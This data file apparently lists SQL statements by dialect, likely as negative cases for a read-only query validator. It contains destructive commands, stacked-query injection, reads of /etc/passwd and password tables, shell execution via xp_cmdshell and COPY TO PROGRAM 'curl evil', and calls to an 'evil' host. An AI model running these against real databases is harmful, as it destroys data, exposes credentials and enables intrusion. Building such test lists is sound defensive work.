any|DELETE FROM projects
any|UPDATE projects SET plan = 'free'
any|INSERT INTO projects VALUES (1)
any|DROP TABLE projects
any|TRUNCATE TABLE projects
any|ALTER TABLE projects ADD COLUMN x INT
any|CREATE TABLE t (id INT)
any|CREATE TABLE t AS SELECT * FROM projects
any|CREATE VIEW v AS SELECT 1
any|CREATE INDEX i ON projects (name)
any|MERGE INTO projects p USING migrations m ON p.id = m.id WHEN MATCHED THEN DELETE
any|GRANT ALL ON projects TO public
any|REVOKE ALL ON projects FROM public
any|SELECT 1; DELETE FROM projects
any|SELECT 1; SELECT 2
any|SELECT 1;; DROP TABLE projects
any|BEGIN
any|COMMIT
any|SET search_path = evil
any|EXPLAIN ANALYZE DELETE FROM projects
any|SELECT * FROM projects FOR UPDATE
any|SELECT * INTO copied FROM projects
any|SELECT * FROM (SELECT * FROM projects FOR UPDATE) t
any|WITH x AS (DELETE FROM projects RETURNING *) SELECT * FROM x
any|WITH x AS (INSERT INTO projects VALUES (1) RETURNING *) SELECT * FROM x
any|WITH x AS (UPDATE projects SET plan = 'a' RETURNING *) SELECT * FROM x
any|WITH x AS (SELECT 1) DELETE FROM projects
any|SELECT sleep(10)
any|SELECT benchmark(1000000000, md5('a'))
any|SELECT my_function(1)
any|SELECT evil.lower('a')
any|SELECT 1 /*! ; DELETE FROM projects */
any|SELECT 1 /* hidden */
any|SELECT '\'; DELETE FROM projects; -- '
any|CALL purge_all()
any|SELECT * FROM '/etc/passwd'
any|
any|not sql at all
any|SELECT
any|SHOW TABLES
any|USE other
any|LOCK TABLE projects
any|VACUUM
any|ANALYZE
postgres|SELECT pg_sleep(10)
postgres|SELECT nextval('projects_id_seq')
postgres|SELECT setval('projects_id_seq', 1)
postgres|SELECT pg_read_file('/etc/passwd')
postgres|SELECT lo_import('/etc/passwd')
postgres|SELECT lo_unlink(1)
postgres|SELECT dblink('host=evil', 'select 1')
postgres|SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
postgres|SELECT pg_advisory_lock(1)
postgres|SELECT pg_terminate_backend(1)
postgres|SELECT pg_catalog.pg_terminate_backend(1)
postgres|SELECT "pg_terminate_backend"(1)
postgres|SELECT set_config('a.b', 'c', false)
postgres|SELECT pg_notify('a', 'b')
postgres|SELECT pg_reload_conf()
postgres|SELECT query_to_xml('delete from projects', true, true, '')
postgres|SELECT * FROM pg_ls_dir('.')
postgres|SELECT txid_current()
postgres|COPY projects TO PROGRAM 'curl evil'
postgres|COPY projects FROM '/tmp/x'
postgres|DO $$ BEGIN DELETE FROM projects; END $$
postgres|SELECT $$a$$
postgres|SELECT E'a\'b'
postgres|SELECT U&'\0061'
postgres|SELECT * FROM pg_shadow
postgres|SELECT rolpassword FROM pg_catalog.pg_authid
postgres|SELECT * FROM projects FOR SHARE
postgres|SELECT * FROM projects FOR NO KEY UPDATE SKIP LOCKED
postgres|LISTEN a
postgres|NOTIFY a
postgres|PREPARE x AS DELETE FROM projects
postgres|EXECUTE x
postgres|DECLARE c CURSOR FOR SELECT 1
postgres|REFRESH MATERIALIZED VIEW v
postgres|SELECT (SELECT nextval('s'))
postgres|SELECT 1 WHERE pg_sleep(1) IS NULL
postgres|SELECT 1 ORDER BY pg_sleep(1)
postgres|SELECT count(*) FILTER (WHERE nextval('s') > 0) FROM projects
postgres|SELECT 1 LIMIT nextval('s')
postgres|SELECT sum(1) OVER (ORDER BY nextval('s'))
postgres|VALUES (nextval('s'))
mysql|SELECT * FROM projects INTO OUTFILE '/tmp/x'
mysql|SELECT name INTO @x FROM projects
mysql|SELECT @x := 1
mysql|SELECT load_file('/etc/passwd')
mysql|SELECT get_lock('a', 1)
mysql|SELECT * FROM projects LOCK IN SHARE MODE
mysql|SELECT * FROM mysql.user
mysql|LOAD DATA INFILE '/tmp/x' INTO TABLE projects
mysql|REPLACE INTO projects VALUES (1)
mysql|SELECT 1 # comment
mysql|HANDLER projects OPEN
sqlite|PRAGMA writable_schema = 1
sqlite|PRAGMA user_version = 7
sqlite|ATTACH DATABASE '/tmp/x' AS x
sqlite|SELECT load_extension('evil')
sqlite|SELECT writefile('/tmp/x', 'a')
sqlite|REPLACE INTO projects VALUES (1)
snowflake|SELECT my_seq.NEXTVAL
snowflake|COPY INTO @stage FROM projects
snowflake|SELECT system$cancel_query('x')
snowflake|SELECT * FROM TABLE(evil_proc())
bigquery|EXPORT DATA OPTIONS (uri='gs://x') AS SELECT 1
bigquery|SELECT * FROM EXTERNAL_QUERY('c', 'delete from x')
mssql|EXEC xp_cmdshell 'dir'
mssql|SELECT * FROM OPENROWSET('a', 'b', 'c')
mssql|SELECT * FROM projects WITH (TABLOCKX)
clickhouse|SELECT * FROM url('http://evil', CSV)
clickhouse|SELECT * FROM projects SETTINGS readonly = 0
clickhouse|SELECT * FROM projects INTO OUTFILE 'x'
duckdb|SELECT * FROM read_csv('/etc/passwd')
duckdb|INSTALL httpfs
duckdb|COPY projects TO 'x.csv'
